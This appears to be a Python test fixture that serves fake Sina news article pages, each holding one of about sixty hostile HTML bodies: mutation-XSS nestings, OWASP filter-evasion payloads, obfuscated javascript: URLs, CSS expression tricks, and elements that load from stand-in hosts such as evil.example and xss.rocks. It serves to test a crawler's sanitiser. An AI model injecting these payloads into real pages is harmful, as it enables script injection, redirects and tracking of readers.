"""Hostile article bodies, and a snapshot that serves each one as a real Sina page.

Each shape stands between two paragraphs of article text (``LEAD``/``TAIL``) in the 2024 article
page's container, so a crawl reads it as a body the way it reads Sina's own. The shapes: the
issue's three, the OWASP XSS filter-evasion cheat sheet's, mutation-XSS shapes (raw-text and
foreign-content elements that re-nest on an ``innerHTML`` round trip), entity and whitespace
tricks in URLs, CSS that loads or covers, and elements that navigate or fetch by themselves.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import NamedTuple

from tests.support.pages import modern_page

LEAD = "恶意样例之前的第一段正文。"
TAIL = "恶意样例之后的最后一段正文。"


class Shape(NamedTuple):
    name: str
    html: str


SHAPES = [
    # The three.
    Shape("math-mglyph-style", '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>'
                               "</mglyph></table></mtext></math>"),
    Shape("form", '<form action="https://evil.example/"><input name=q><button>go</button></form>'),
    Shape("style-url-javascript", '<div style="background:url(javascript:alert(3))">x</div>'),
    # Mutation XSS: raw text and foreign content.
    Shape("svg-style", "<svg><style><img src=x onerror=alert(4)></style></svg>"),
    Shape("math-style", "<math><style><img src=x onerror=alert(5)></style></math>"),
    Shape("noscript-title", '<noscript><p title="</noscript><img src=x onerror=alert(6)>"></noscript>'),
    Shape("template", "<template><img src=x onerror=alert(7)></template><template><style></template>"
                      "<img src=x onerror=alert(7)></style></template>"),
    Shape("svg-p-style", '<svg></p><style><a id="</style><img src=1 onerror=alert(8)>">'),
    Shape("form-math-mglyph", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(9)>"),
    Shape("svg-foreignobject", "<svg><foreignObject><p><style><img src=x onerror=alert(10)></style></p>"
                               "</foreignObject></svg>"),
    Shape("noembed-title", '<noembed><img title="</noembed><img src=x onerror=alert(11)>"></noembed>'),
    Shape("xmp-title", '<xmp><img title="</xmp><img src=x onerror=alert(12)>"></xmp>'),
    Shape("textarea-title", '<textarea><img title="</textarea><img src=x onerror=alert(13)>"></textarea>'),
    Shape("title-title", '<title><img title="</title><img src=x onerror=alert(14)>"></title>'),
    Shape("comment-attribute", '<!--<img src="--><img src=x onerror=alert(15)>">'),
    Shape("conditional-comment", "<!--[if gte IE 4]><SCRIPT>alert(16);</SCRIPT><![endif]-->"),
    # OWASP filter evasion.
    Shape("img-javascript", "<IMG SRC=\"javascript:alert('XSS');\">"),
    Shape("img-mixed-case", "<IMG SRC=JaVaScRiPt:alert('XSS')>"),
    Shape("img-grave-accent", "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>"),
    Shape("img-malformed-quotes", '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>'),
    Shape("img-onmouseover", "<IMG SRC=# onmouseover=\"alert('xxs')\">"),
    Shape("img-onerror-fromcharcode", '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>'),
    Shape("img-onerror-entities", '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099'
                                  "&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101"
                                  '&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">'),
    Shape("img-decimal-entities", "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
                                  "&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>"),
    Shape("script-slash-src", '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>'),
    Shape("body-onload-junk", '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>'),
    Shape("body-onload", "<body onload=alert(27)>"),
    Shape("double-open-script", '<<SCRIPT>alert("XSS");//\\<</SCRIPT>'),
    Shape("input-image", "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">"),
    Shape("body-background", "<BODY BACKGROUND=\"javascript:alert('XSS')\">"),
    Shape("svg-onload", "<svg/onload=alert('XSS')>"),
    Shape("link-stylesheet", '<LINK REL="stylesheet" HREF="http://xss.rocks/xss.css">'),
    Shape("style-import", "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>"),
    Shape("style-moz-binding", '<STYLE>.x{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>'),
    Shape("style-background-host", "<STYLE>.article{background:url(http://evil.example/bg.png)}</STYLE>"),
    Shape("img-style-expression", "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">"),
    Shape("table-background", "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><tr><td>t</td></tr></TABLE>"),
    Shape("div-style-escape", '<DIV STYLE="background-image:\\0075\\0072\\006C\\0028\'\\006a\\0061\\0076\\0061'
                              "\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027"
                              '\\0058.1053\\0053\\0027\\0029\'\\0029">x</DIV>'),
    Shape("div-style-expression", "<DIV STYLE=\"width: expression(alert('XSS'));\">x</DIV>"),
    Shape("div-style-fetch", '<div style="background:url(http://evil.example/track.png)">x</div>'),
    Shape("div-overlay", '<div style="position:fixed;top:0;left:0;width:100%;height:100%">覆盖</div>'),
    Shape("details-ontoggle", "<details open ontoggle=alert(42)><summary>s</summary></details>"),
    Shape("video-source-onerror", '<video><source onerror="alert(43)"></video><audio src=x onerror=alert(43)>'),
    Shape("frameset", "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>"),
    Shape("iframe", "<iframe src=\"javascript:alert(45)\"></iframe><iframe srcdoc=\"<script>alert(45)</script>\">"
                    "</iframe><iframe src=\"https://evil.example/\"></iframe>"),
    Shape("object-embed", '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">'),
    Shape("base", '<base href="https://evil.example/">'),
    Shape("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
    Shape("img-srcset", '<img srcset="https://evil.example/x.png 1x" alt="s">'),
    Shape("svg-xlink", '<svg><a xlink:href="javascript:alert(50)"><text x="20" y="20">XSS</text></a></svg>'),
    Shape("button-formaction", '<button formaction="javascript:alert(51)">b</button>'),
    # Entity and whitespace tricks in URLs.
    Shape("href-tab-entity", '<a href="jav&#x09;ascript:alert(52)">a</a>'),
    Shape("href-raw-tab", '<a href="jav\tascript:alert(53)">a</a>'),
    Shape("href-newline-entity", '<a href="java&#x0A;script:alert(54)">a</a>'),
    Shape("href-leading-control", '<a href=" &#14;  javascript:alert(55)">a</a>'),
    Shape("href-first-letter-entity", '<a href="&#x6A;avascript:alert(56)">a</a>'),
    Shape("href-colon-entity", '<a href="javascript&colon;alert(57)">a</a>'),
    Shape("href-data", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg1OCk8L3NjcmlwdD4=">a</a>'),
    Shape("href-vbscript", '<a href="vbscript:msgbox(59)">a</a>'),
    Shape("img-data", '<img src="data:image/svg+xml,<svg onload=alert(60)>">'),
    # Text that Markdown would read as a link or an image.
    Shape("markdown-link-text", "<p>[点我](javascript:alert(61)) ![图](javascript:alert(61)) [x]: javascript:alert(61)</p>"),
]


def page(shape: Shape, number: int) -> str:
    """The 2024 article page with the shape between two paragraphs as its body."""
    body = f'<p cms-style="font-L">　　{LEAD}</p>{shape.html}<p cms-style="font-L">　　{TAIL}</p>'
    return modern_page(title(shape, number), body)


def title(shape: Shape, number: int) -> str:
    return f"恶意样例{number:02d} {shape.name}"


def url(number: int) -> str:
    return f"https://news.sina.com.cn/c/2024-05-10/doc-ihostilecase{number:03d}.shtml"


def write_snapshot(root: Path) -> list[str]:
    """A snapshot serving one page per shape; returns their URLs in SHAPES order."""
    urls = []
    for number, shape in enumerate(SHAPES, 1):
        path = root / "pages" / "news.sina.com.cn" / "c" / "2024-05-10" / f"doc-ihostilecase{number:03d}.shtml"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(page(shape, number), encoding="utf-8")
        urls.append(url(number))
    (root / "headers.json").write_text(json.dumps({u: {"Content-Type": "text/html; charset=utf-8"} for u in urls}),
                                       encoding="utf-8")
    return urls
